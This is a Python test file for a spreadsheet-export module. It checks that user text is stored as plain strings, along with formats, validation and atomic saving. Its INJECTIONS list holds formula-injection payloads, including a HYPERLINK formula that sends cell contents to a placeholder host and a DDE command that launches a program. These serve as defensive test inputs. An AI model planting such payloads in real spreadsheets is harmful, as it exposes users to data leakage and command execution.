"""Writing: text never becomes a formula, one set of formats, atomic saving."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mutualis import sheets

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]


def test_user_text_is_never_written_as_a_formula(tmp_path: Path):
    workbook = sheets.new_workbook()
    sheet = workbook.create_sheet("Données")
    sheets.append(sheet, INJECTIONS)
    for index, text in enumerate(INJECTIONS, start=1):
        sheets.put(sheet, 2, index, text)
    data = sheets.to_bytes(workbook)
    reread = load_workbook(io.BytesIO(data))["Données"]
    for row in (1, 2):
        for index, text in enumerate(INJECTIONS, start=1):
            target = reread.cell(row=row, column=index)
            assert target.value == text
            assert target.data_type == "s"
            assert target.quotePrefix
    assert b"<f>" not in data


def test_write_only_workbooks_are_safe_too():
    workbook = sheets.new_workbook(write_only=True)
    sheet = workbook.create_sheet("Export")
    sheets.append(
        sheet, ["=cmd|' /C calc'!A0", Decimal("12.50"), date(2026, 1, 31)], ["", sheets.EURO_FORMAT]
    )
    reread = load_workbook(io.BytesIO(sheets.to_bytes(workbook)))["Export"]
    assert reread["A1"].data_type == "s"
    assert reread["B1"].number_format == sheets.EURO_FORMAT
    assert reread["C1"].number_format == sheets.DATE_FORMAT


def test_header_title_and_list_validation():
    workbook = sheets.new_workbook()
    sheet = workbook.create_sheet("Unites")
    sheets.title(sheet, "Données fictives", warning=True)
    sheets.header(sheet, 2, ["Code", "Usage propre"], [16, 14])
    sheets.list_validation(sheet, '"oui,non"', "B3:B500", error="Répondez oui ou non.")
    reread = load_workbook(io.BytesIO(sheets.to_bytes(workbook)))["Unites"]
    assert reread["A2"].font.bold
    assert reread.freeze_panes == "A3"
    assert reread.data_validations.dataValidation[0].formula1 == '"oui,non"'


def test_saving_is_atomic(tmp_path: Path):
    target = tmp_path / "sortie" / "etats.xlsx"
    workbook = sheets.new_workbook()
    workbook.create_sheet("A")
    sheets.save_atomic(workbook, target)
    assert load_workbook(target).sheetnames == ["A"]

    class Broken(Exception):
        pass

    def explode(path: str) -> None:
        Path(path).write_bytes(b"partial")
        raise Broken

    workbook.save = explode  # type: ignore[method-assign]
    with pytest.raises(Broken):
        sheets.save_atomic(workbook, target)
    assert load_workbook(target).sheetnames == ["A"]
    assert [p.name for p in target.parent.iterdir()] == ["etats.xlsx"]


def test_one_mime_type():
    assert sheets.XLSX_MIME.endswith("spreadsheetml.sheet")
